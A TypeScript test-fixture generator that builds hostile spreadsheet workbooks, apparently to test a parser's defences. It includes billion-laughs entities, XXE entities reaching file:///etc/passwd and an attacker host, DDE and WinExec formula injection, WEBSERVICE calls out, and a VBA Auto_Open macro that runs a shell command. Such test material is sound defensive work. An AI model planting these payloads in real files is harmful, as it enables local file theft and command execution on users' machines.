// Workbooks whose parts are whole and whose XML is hostile: entities, sizes, styles, numbers, formulas, signs, nesting, macros.
import type { Random } from '../../db/registers/sample/random'
import { sheetXml, textCell, workbookParts, zip, type Entry } from '../fixtures/exchange/zip'
import { table, type Maker } from './hostile-file'

const head = `<row r="1">${textCell('A1', 'Tên phòng')}${textCell('B1', 'Mã số')}${textCell('C1', 'Ngày hết hạn')}</row>`
const row = (cells: string, r = 2): string => `<row r="${r}">${cells}</row>`
const book = (rows: string, before = '', more: Entry[] = []): Buffer =>
  zip([...workbookParts(sheetXml(head + rows, before)), ...more])

const OFFICE = 'urn:oasis:names:tc:opendocument:xmlns'
const cell = (text: string, attributes = ''): string =>
  `<table:table-cell office:value-type="string" ${attributes}><text:p>${text}</text:p></table:table-cell>`

/** The parts of a whole OpenDocument sheet, a name a row. */
export const odsParts = (names: readonly string[]): Entry[] =>
  partsOf(names.map((name) => `<table:table-row>${cell(name)}${cell('VILAS 9001')}</table:table-row>`).join(''))

const ods = (rows: string, before = '', styles = ''): Buffer => zip(partsOf(rows, before, styles))

function partsOf(rows: string, before = '', styles = ''): Entry[] {
  const names = ['office', 'table', 'text', 'style'].map((each) => `xmlns:${each}="${OFFICE}:${each}:1.0"`).join(' ')
  const first = `<table:table-row>${cell('Tên phòng')}${cell('Mã số')}</table:table-row>`
  const content = `<?xml version="1.0"?>${before}<office:document-content ${names}><office:automatic-styles>${styles}</office:automatic-styles><office:body><office:spreadsheet><table:table table:name="A">${first}${rows}</table:table></office:spreadsheet></office:body></office:document-content>`
  return [
    { name: 'mimetype', content: 'application/vnd.oasis.opendocument.spreadsheet' },
    { name: 'content.xml', content },
    { name: 'META-INF/manifest.xml', content: '<manifest/>' },
  ]
}

function laughs(random: Random): string {
  const names = 'abcdefghij'.slice(0, random.int(3, 10)).split('')
  const rest = names.slice(1).map((name, at) => `<!ENTITY ${name} "${`&${names[at]};`.repeat(random.int(5, 60))}">`)
  return `<!DOCTYPE x [<!ENTITY a "${'ha'.repeat(random.int(1, 2_000))}">${rest.join('')}]>`
}

const entities: Maker = (random) => {
  const doctype = laughs(random)
  const last = /ENTITY (\w) "[^"]*">\]>$/.exec(doctype)?.[1] ?? 'a'
  const many = `&${last};`.repeat(random.int(1, 40))
  return random.chance(0.6)
    ? table('thực thể.xlsx', book(row(textCell('A2', many)), doctype))
    : table('thực thể.ods', ods(`<table:table-row>${cell(many)}</table:table-row>`, doctype))
}

const external: Maker = (random, { bait, host }) => {
  const target = random.pick([
    `file://${bait}`,
    bait,
    `http://${host}/xxe`,
    `ftp://${host}/xxe`,
    'file:///etc/passwd',
    `\\\\${host}\\xxe`,
  ])
  const doctype = random.pick([
    `<!DOCTYPE x [<!ENTITY e SYSTEM "${target}">]>`,
    `<!DOCTYPE x [<!ENTITY e PUBLIC "-//X" "${target}">]>`,
    `<!DOCTYPE x SYSTEM "${target}" [<!ENTITY % p SYSTEM "${target}"> %p;]>`,
    `<?xml-stylesheet type="text/xsl" href="${target}"?><!DOCTYPE x [<!ENTITY e SYSTEM "${target}">]>`,
  ])
  const linked: Entry = {
    name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
    content: `<Relationships><Relationship Id="r" Type="externalLinkPath" Target="${target}" TargetMode="External"/></Relationships>`,
  }
  return random.chance(0.6)
    ? table('ngoài.xlsx', book(row(textCell('A2', 'Phòng &e; mẫu')), doctype, [linked]))
    : table('ngoài.ods', ods(`<table:table-row>${cell('Phòng &e; mẫu')}</table:table-row>`, doctype))
}

const places = [
  'XFD1048576',
  'ZZZZZZ9',
  'A0',
  'A-1',
  'A99999999999',
  '1A',
  '',
  'XFE2',
  'A2:B9',
  '$A$2',
  'R2C1',
  'ẩn2',
  'A2147483648',
]

const sizes: Maker = (random) => {
  const huge = random.pick(['1048577', '2147483647', '4294967296', '-1', '1e9', 'NaN', ''])
  const merges = Array.from({ length: random.int(1, 3_000) }, () => '<mergeCell ref="A2:A1048576"/>').join('')
  const wide = `<table:table-row table:number-rows-repeated="${random.pick(['1000000000', '99999999999', '-5', 'x'])}">${cell('Phòng', `table:number-columns-repeated="${random.pick(['16384', '1000000000', '0', '-1'])}"`)}</table:table-row>`
  return random.pick([
    () => table('cỡ.xlsx', book(row(textCell(random.pick(places), 'Phòng mẫu')))),
    () => table('cỡ.xlsx', book(`<row r="${huge}">${textCell(`A${huge}`, 'Phòng mẫu')}</row>`)),
    () =>
      table(
        'gộp.xlsx',
        zip(
          workbookParts(
            sheetXml(head + row(textCell('A2', 'Phòng mẫu'))).replace(
              '</worksheet>',
              `<mergeCells>${merges}</mergeCells></worksheet>`,
            ),
          ),
        ),
      ),
    () =>
      table(
        'cỡ.xlsx',
        zip(
          workbookParts(
            sheetXml(head).replace(
              '<sheetData>',
              '<dimension ref="A1:XFD1048576"/><cols><col min="1" max="2147483647" width="1e308"/></cols><sheetData>',
            ),
          ),
        ),
      ),
    () => table('lặp.ods', ods(wide)),
    () =>
      table(
        'lặp.ods',
        ods(
          `<table:table-row table:number-rows-repeated="2000000">${cell('Phòng')}</table:table-row>`.repeat(
            random.int(1, 20),
          ),
        ),
      ),
  ])()
}

function strings(random: Random): Buffer {
  const shared = (items: string, indices: number[]): Buffer => {
    const cells = indices.map((index, at) => row(`<c r="A${at + 2}" t="s"><v>${index}</v></c>`, at + 2)).join('')
    const content = `<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="99999999999" uniqueCount="-1">${items}</sst>`
    return book(cells, '', [{ name: 'xl/sharedStrings.xml', content }])
  }
  return random.pick([
    () => shared(`<si><t>${'Ấ'.repeat(random.int(1, 8) * 2 ** 20)}</t></si>`, [0, 0, 0, 0]),
    () => shared('<si><t>a</t></si>'.repeat(random.int(1, 200_000)), [0, 5_000_000, -1, 2 ** 53]),
    () => shared(`<si>${'<r><rPr><b/></rPr><t>x</t></r>'.repeat(random.int(1, 100_000))}</si>`, [0]),
    () => shared('', [0, 1, 2]),
  ])()
}

export const workbooks: Record<string, Maker> = {
  'XML entities that multiply': entities,
  'XML entities from outside': external,
  'absurd places and sizes': sizes,
  'huge shared strings': (random) => table('chuỗi.xlsx', strings(random)),
  'styles in a circle': (random) => {
    const count = random.pick([1, 3, 100, 60_000])
    const formats = `<numFmts count="1"><numFmt numFmtId="164" formatCode="${random.pick(['[>9E+999]0;[Red]', '"', '[$-F800]dddd', 'y'.repeat(30_000), '\\'.repeat(999)])}"/></numFmts>`
    const xfs = Array.from(
      { length: count },
      (_, at) => `<xf numFmtId="${random.pick([164, 14, -1, 99_999])}" xfId="${at}"/>`,
    ).join('')
    const styles = `<?xml version="1.0"?><styleSheet>${formats}<cellStyleXfs>${xfs}</cellStyleXfs><cellXfs>${xfs}</cellXfs></styleSheet>`
    const used = `<c r="C2" s="${random.pick([0, 1, count, 2 ** 31, -1])}"><v>${random.pick([45_000, 1e12, -3])}</v></c>`
    if (random.chance(0.6))
      return table(
        'kiểu.xlsx',
        book(row(textCell('A2', 'Phòng mẫu') + used), '', [{ name: 'xl/styles.xml', content: styles }]),
      )
    const circle =
      '<style:style style:name="a" style:parent-style-name="b"/><style:style style:name="b" style:parent-style-name="a"/>'
    return table(
      'kiểu.ods',
      ods(`<table:table-row>${cell('Phòng mẫu', 'table:style-name="a"')}</table:table-row>`, '', circle),
    )
  },
  'formulas that would do something': (random, { host }) => {
    const formula = random.pick([
      "cmd|'/C calc'!A0",
      `HYPERLINK("http://${host}/f","x")`,
      `WEBSERVICE("http://${host}/f")`,
      '[1]Sheet1!A1',
      `${'('.repeat(5_000)}1`,
      'A2',
      'INDIRECT("A2")',
      `IMPORTXML("http://${host}","//a")`,
      'CALL("kernel32","WinExec","JCJ","calc",0)',
    ])
    const said = random.pick(['<v>Phòng mẫu</v>', '', '<v>#REF!</v>', '<v>=1+1</v>'])
    return random.chance(0.7)
      ? table('công thức.xlsx', book(row(`<c r="A2" t="str"><f>${formula.replaceAll('"', '&quot;')}</f>${said}</c>`)))
      : table(
          'công thức.ods',
          ods(
            `<table:table-row><table:table-cell table:formula="of:=${formula.replaceAll('"', '&quot;')}" office:value-type="string"><text:p>Phòng mẫu</text:p></table:table-cell></table:table-row>`,
          ),
        )
  },
  'numbers and days out of range': (random) => {
    const value = random.pick([
      '1e308',
      '-1e308',
      '1e999',
      'NaN',
      'Infinity',
      '1e-400',
      '2958466',
      '-1',
      '0',
      '60',
      '1e15',
      '9007199254740993',
      '0x1F',
      '١٢٣',
      '1,5',
      '',
      '99999-99-99T99:99:99Z',
      '2026-02-30',
      '-271821-04-20',
      '+275760-09-13',
    ])
    const type = random.pick(['', ' t="n"', ' t="d"', ' t="b"', ' t="e"', ' t="zzz"'])
    const styles =
      '<?xml version="1.0"?><styleSheet><cellXfs><xf numFmtId="0"/><xf numFmtId="14" applyNumberFormat="1"/></cellXfs></styleSheet>'
    const number = `<c r="C2" s="1"${type}><v>${value}</v></c>`
    if (random.chance(0.7))
      return table(
        'số.xlsx',
        book(row(textCell('A2', 'Phòng mẫu') + `<c r="B2"><v>${value}</v></c>` + number), '', [
          { name: 'xl/styles.xml', content: styles },
        ]),
      )
    return table(
      'số.ods',
      ods(
        `<table:table-row>${cell('Phòng mẫu')}<table:table-cell office:value-type="${random.pick(['float', 'date', 'time', 'boolean'])}" office:value="${value}" office:date-value="${value}"/></table:table-row>`,
      ),
    )
  },
  'signs that are none in XML': (random) => {
    const sign = random.pick([
      '&#0;',
      '&#xD800;',
      '&#xDFFF;',
      '&#xFFFE;',
      '&#x110000;',
      '&#99999999999;',
      '_xD800_',
      '_x0000_',
      '\uFFFE',
      '\u202Egnp.exe',
      '&unknown;',
      '&#;',
      '&',
      '\u0000',
      '\u001b[31m',
      'e\u0301'.repeat(3_000),
    ])
    return random.chance(0.7)
      ? table('ký tự.xlsx', book(row(textCell('A2', `Phòng ${sign} mẫu`) + textCell('B2', sign))))
      : table('ký tự.ods', ods(`<table:table-row>${cell(`Phòng ${sign} mẫu`)}</table:table-row>`))
  },
  'deep nesting': (random) => {
    const deep = random.pick([1_000, 20_000, 200_000])
    const tag = random.pick(['x', 'row', 'c', 'is', 't'])
    const nested = `<${tag}>`.repeat(deep) + `</${tag}>`.repeat(random.chance(0.7) ? deep : 1)
    return random.chance(0.6)
      ? table('sâu.xlsx', book(nested))
      : table('sâu.ods', ods(`<text:span>`.repeat(deep) + `</text:span>`.repeat(deep)))
  },
  'macros and links to elsewhere': (random, { host }) =>
    random.chance(0.7)
      ? table(
          random.pick(['vĩ lệnh.xlsm', 'vĩ lệnh.xlsx', 'vĩ lệnh.csv']),
          book(row(textCell('A2', 'Phòng mẫu')), '', [
            { name: 'xl/vbaProject.bin', content: Buffer.from('Sub Auto_Open()\nShell "calc"\nEnd Sub') },
            { name: 'xl/externalLinks/externalLink1.xml', content: `<externalLink href="http://${host}/x"/>` },
            { name: 'xl/activeX/activeX1.bin', content: 'MZ' },
          ]),
          ['read'],
        )
      : table(
          'vĩ lệnh.xlsb',
          zip([
            { name: 'xl/workbook.bin', content: 'x' },
            { name: 'xl/vbaProject.bin', content: 'x' },
          ]),
          ['file.xls'],
        ),
}
